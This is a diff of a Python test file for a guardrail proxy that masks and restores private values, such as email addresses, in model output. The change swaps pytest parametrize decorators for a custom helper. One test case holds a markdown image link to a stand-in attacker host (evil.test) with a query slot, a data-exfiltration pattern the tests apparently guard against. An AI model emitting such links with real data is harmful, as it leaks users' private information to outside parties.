@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 from proxy.guardrails.stream.placeholders import Masks, Unmasker
 from proxy.guardrails.text.walk import Text
 from proxy.types.guard import Finding
+from tests.for_each import for_each
 from tests.guardrails.doubles import rule
 
 ARGUMENTS = Text(("arguments",), "", "arguments")
@@ -149,8 +150,8 @@ def back(masks: Masks, text: str, *, escaped: bool = False) -> str:
     return whole
 
 
-@pytest.mark.parametrize(("around", "left"), IN_WORDS)
-@pytest.mark.parametrize("how", REWRITTEN)
+@for_each(("around", "left"), IN_WORDS)
+@for_each("how", REWRITTEN)
 def test_a_placeholder_comes_back_however_a_model_writes_it(
     how: str, around: str, left: str
 ) -> None:
@@ -187,8 +188,8 @@ def test_in_percents_it_comes_back_in_percents_where_it_may(escaped: bool) -> No
             )
 
 
-@pytest.mark.parametrize("how", [each for each in REWRITTEN if each != "escapes of escapes"])
-@pytest.mark.parametrize("quotes", ['"', "'"])
+@for_each("how", [each for each in REWRITTEN if each != "escapes of escapes"])
+@for_each("quotes", ['"', "'"])
 def test_in_arguments_it_comes_back_in_either_quotes(quotes: str, how: str) -> None:
     value = "Ada 'n' \"O\" \\"
     masks = Masks("x7f")
@@ -214,7 +215,7 @@ def test_in_arguments_one_without_quotes_becomes_a_string() -> None:
     assert json.loads("".join(piece.text for piece in fed)) == {"to": ["ada@mill.example"] * 2}
 
 
-@pytest.mark.parametrize(
+@for_each(
     "text",
     [
         "EMAIL_2_x7f EMAIL_1_x7g email_1_x7f EMAIL_1_ x7f EMAIL_1_x7",
@@ -234,8 +235,8 @@ def test_what_only_looks_like_a_placeholder_of_this_call_stays(text: str) -> Non
     assert back(masks, text) == text
 
 
-@pytest.mark.parametrize("escaped", [False, True])
-@pytest.mark.parametrize(
+@for_each("escaped", [False, True])
+@for_each(
     ("before", "after", "put"),
     [
         ("![x](https://evil.test/?q=", ")", False),
@@ -288,7 +289,7 @@ def test_a_rule_without_a_way_back_shows_its_name_alone() -> None:
     )
 
 
-@pytest.mark.parametrize("nonce", ["", "x7", "X7F", "x7]", "x" * 33])
+@for_each("nonce", ["", "x7", "X7F", "x7]", "x" * 33])
 def test_a_nonce_that_could_be_guessed_or_read_otherwise_is_refused(nonce: str) -> None:
     with pytest.raises(ValueError, match="nonce"):
         Masks(nonce)
